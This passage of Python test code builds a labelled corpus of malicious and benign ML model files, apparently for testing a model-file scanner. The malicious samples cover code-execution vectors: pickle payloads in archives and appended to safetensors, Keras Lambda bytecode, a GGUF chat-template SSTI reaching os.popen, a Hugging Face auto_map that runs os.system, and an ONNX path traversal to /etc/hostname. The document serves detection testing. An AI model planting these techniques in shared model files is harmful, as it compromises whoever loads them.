               "tar archive holding a pickle", "archives of model folders", PICKLE_RULES),
          tar_writer)
    inner = zip_bytes([("model.pkl", bad)])
    b.file("zip_in_zip", "archives/nested.zip", zip_bytes([("inner.zip", inner)]), fmt="zip",
           desc="zip inside a zip, the pickle at the second level", source="nested archives")

    def sevenz_writer(p: Path) -> None:
        import py7zr

        with py7zr.SevenZipFile(p, "w") as z:
            z.writestr(bad, "model.pkl")

    b.add(Case("sevenz_pickle", "archives/model.7z", True, "7z",
               "7z archive (py7zr) holding a pickle", "archives of model folders", PICKLE_RULES),
          sevenz_writer)


def _plain_npy() -> bytes:
    import numpy as np

    buf = io.BytesIO()
    np.save(buf, np.arange(6, dtype=np.float32))
    return buf.getvalue()


def _format_cases(b: _Builder) -> None:
    m = b.marker
    lam = {"class_name": "Lambda",
           "config": {"name": "lambda", "trainable": True, "dtype": "float32",
                      "function": [lambda_b64(m), None, None], "function_type": "lambda",
                      "module": "__main__", "output_shape": None, "output_shape_type": "raw",
                      "arguments": {}}}
    b.add(Case("keras_h5_lambda", "keras/lambda.h5", True, "keras-h5",
               "Keras 2 .h5 whose model_config has a Lambda layer with marshalled bytecode",
               "Keras Lambda layer code execution (CVE-2024-3660 class)", KERAS_RULES),
          lambda p: write_keras_h5(p, keras2_model_config(
              [dense_layer("dense", 8), lam, dense_layer("dense_1", 2)])))

    def keras_zip_writer(p: Path) -> None:
        cfg = {"module": "keras", "class_name": "Sequential", "registered_name": None,
               "config": {"name": "sequential", "layers": [
                   {"module": "keras.layers", "class_name": "Lambda", "registered_name": None,
                    "config": {"name": "lambda", "function": {
                        "class_name": "__lambda__",
                        "config": {"code": lambda_b64(m), "defaults": None,
                                   "closure": None}}}}]}}
        meta = {"keras_version": "3.3.3", "date_saved": "2024-01-01@00:00:00"}
        p.write_bytes(zip_bytes([("metadata.json", json.dumps(meta).encode()),
                                 ("config.json", json.dumps(cfg).encode())]))

    b.add(Case("keras_v3_lambda", "keras/lambda.keras", True, "keras-zip",
               ".keras zip whose config.json has a __lambda__ with marshalled bytecode",
               "Keras safe_mode bypass reports (Lambda in .keras)", KERAS_RULES), keras_zip_writer)

    def onnx_writer(p: Path) -> None:
        import onnx
        from onnx import TensorProto, helper

        t = TensorProto()
        t.name = "w"
        t.data_type = TensorProto.FLOAT
        t.dims.extend([4])
        t.data_location = TensorProto.EXTERNAL
        for k, v in (("location", "../../../../etc/hostname"), ("offset", "0"),
                     ("length", "16")):
            e = t.external_data.add()
            e.key, e.value = k, v
        node = helper.make_node("Add", ["x", "w"], ["y"])
        graph = helper.make_graph(
            [node], "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])],
            [helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])], initializer=[t])
        p.mkdir()
        onnx.save_model(helper.make_model(graph), str(p / "model.onnx"))

    b.add(Case("onnx_external_data_escape", "onnx/escape_model", True, "onnx",
               "ONNX initializer whose external data location climbs out of the model folder",
               "ONNX external data path traversal advisories (arbitrary file read)", ONNX_ESCAPE),
          onnx_writer)

    template = ("{% for m in messages %}{{ m.content }}{% endfor %}"
                "{{ cycler.__init__.__globals__.os.popen('" + shell_cmd(m) + "').read() }}")
    b.add(Case("gguf_chat_template_ssti", "gguf/ssti.gguf", True, "gguf",
               "GGUF whose tokenizer.chat_template reaches os.popen through Jinja2 globals",
               "llama-cpp-python chat template SSTI (CVE-2024-34359 class)", GGUF_TEMPLATE),
          lambda p: _write_gguf(p, template))

    def st_appended(p: Path) -> None:
        _write_safetensors(p)
        with p.open("ab") as f:
            f.write(os_system_pickle(m))

    b.add(Case("safetensors_appended_pickle", "safetensors/appended.safetensors", True,
               "safetensors", "valid safetensors followed by a pickle payload",
               "polyglot weights files", SAFETENSORS_RULES), st_appended)
    bad_header = b'{"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}'
    b.file("safetensors_malformed_header", "safetensors/malformed.safetensors",
           struct.pack("<Q", 1 << 40) + bad_header + os_system_pickle(m),
           fmt="safetensors", desc="header length far beyond the file, unterminated JSON, then "
           "a pickle", source="malformed safetensors headers (parser confusion)",
           rule=None)  # rejected at sniffing (not a safetensors header) or by the parser

    def hf_writer(p: Path) -> None:
        p.mkdir()
        (p / "config.json").write_text(json.dumps({
            "model_type": "custom", "architectures": ["EvilModel"],
            "auto_map": {"AutoConfig": "configuration_evil.EvilConfig",
                         "AutoModel": "modeling_evil.EvilModel"}}))
        (p / "modeling_evil.py").write_text(
            "import os\n\n\nclass EvilModel:\n    def __init__(self, config):\n"
            f"        os.system({shell_cmd(m)!r})\n")
        (p / "configuration_evil.py").write_text("class EvilConfig:\n    pass\n")

    b.add(Case("hf_auto_map_remote_code", "hf/auto_map_model", True, "hf-config",
               "config.json auto_map to modeling_evil.py which calls os.system",
               "trust_remote_code abuse on model hubs", CONFIG_CODE_RULES), hf_writer)

    def savedmodel_writer(p: Path) -> None:
        (p / "variables").mkdir(parents=True)
        (p / "saved_model.pb").write_bytes(saved_model_pb(
            [("x", "Placeholder"), ("evil", "PyFunc"), ("y", "Identity")]))

    b.add(Case("savedmodel_pyfunc", "tf/pyfunc_model", True, "savedmodel",
               "SavedModel graph with a PyFunc op (calls a Python function when run)",
               "TensorFlow graphs that run Python (tf.py_function)", TF_PYFUNC),
          savedmodel_writer)


def _write_gguf(path: Path, template: str) -> None:
    import gguf
    import numpy as np

    w = gguf.GGUFWriter(str(path), "llama")
    w.add_name("tiny")
    w.add_chat_template(template)
    w.add_tensor("token_embd.weight", np.zeros((4, 8), dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()


def _write_safetensors(path: Path) -> None:
    import numpy as np
    from safetensors.numpy import save_file

    save_file({"w": np.arange(8, dtype=np.float32).reshape(2, 4),
               "b": np.zeros(4, dtype=np.float32)}, str(path), metadata={"format": "np"})


def _benign_cases(b: _Builder) -> None:
    import joblib
    import numpy as np
    import torch

    def benign(name: str, rel: str, fmt: str, desc: str, writer: Callable[[Path], object]) -> None:
        b.add(Case(name, rel, False, fmt, desc, "benign: saved by the library itself"), writer)

    torch.manual_seed(0)
    net = torch.nn.Sequential(torch.nn.Linear(8, 4), torch.nn.ReLU(), torch.nn.Linear(4, 2),
                              torch.nn.BatchNorm1d(2))
    benign("benign_torch_state_dict", "benign/state_dict.pt", "torch-zip",
           "torch.save of a real nn.Sequential state_dict (Linear, BatchNorm)",
           lambda p: torch.save(net.state_dict(), p))
    benign("benign_torch_tensor_list", "benign/tensors.pth", "torch-zip",
           "torch.save of a list of tensors (float32, int64, bfloat16)",
           lambda p: torch.save([torch.ones(3), torch.arange(5), torch.zeros(2, dtype=torch.bfloat16)],
                                p))
    benign("benign_torch_legacy", "benign/legacy.bin", "torch-legacy",
           "torch.save(..., _use_new_zipfile_serialization=False) of a state_dict",
           lambda p: torch.save(net.state_dict(), p, _use_new_zipfile_serialization=False))
    benign("benign_numpy_save", "benign/array.npy", "npy", "numpy.save of a float32 array",
           lambda p: np.save(p, np.linspace(0, 1, 32, dtype=np.float32)))
    benign("benign_numpy_savez", "benign/arrays.npz", "npz", "numpy.savez of two arrays",
           lambda p: np.savez(p, a=np.ones((2, 3)), b=np.arange(4)))
    benign("benign_joblib_array", "benign/array.joblib", "joblib", "joblib.dump of a numpy array",
           lambda p: joblib.dump(np.arange(100, dtype=np.float64), p))
    benign("benign_joblib_dict", "benign/params.joblib", "joblib",
           "joblib.dump of a dict of numpy arrays and numbers",
           lambda p: joblib.dump({"coef": np.ones(3), "intercept": 0.5, "n": 3}, p))
    benign("benign_safetensors", "benign/model.safetensors", "safetensors",
           "safetensors.numpy.save_file with metadata", _write_safetensors)
    benign("benign_pickle_ordereddict", "benign/ordered.pkl", "pickle",
           "pickle (protocol 2) of an OrderedDict of ints",
           lambda p: p.write_bytes(benign_pickle()))

    def onnx_benign(p: Path) -> None:
        import onnx
        from onnx import TensorProto, helper, numpy_helper

        w = numpy_helper.from_array(np.ones((4, 2), dtype=np.float32), "w")
        graph = helper.make_graph(
            [helper.make_node("MatMul", ["x", "w"], ["y"])], "g",
            [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
            [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 2])], initializer=[w])
        onnx.save_model(helper.make_model(graph), str(p))

    benign("benign_onnx", "benign/model.onnx", "onnx", "ONNX MatMul model via onnx.helper",
           onnx_benign)
    benign("benign_gguf", "benign/model.gguf", "gguf",
           "GGUF via gguf.GGUFWriter with an ordinary chat template",
           lambda p: _write_gguf(p, "{% for message in messages %}<|{{ message['role'] }}|>"
                                    "{{ message['content'] }}{% endfor %}"
                                    "{% if add_generation_prompt %}<|assistant|>{% endif %}"))
    benign("benign_keras_h5", "benign/dense.h5", "keras-h5",
           "Keras-shaped .h5 (h5py) with two Dense layers and weights",
           lambda p: write_keras_h5(p, keras2_model_config(
               [dense_layer("dense", 8), dense_layer("dense_1", 2)])))
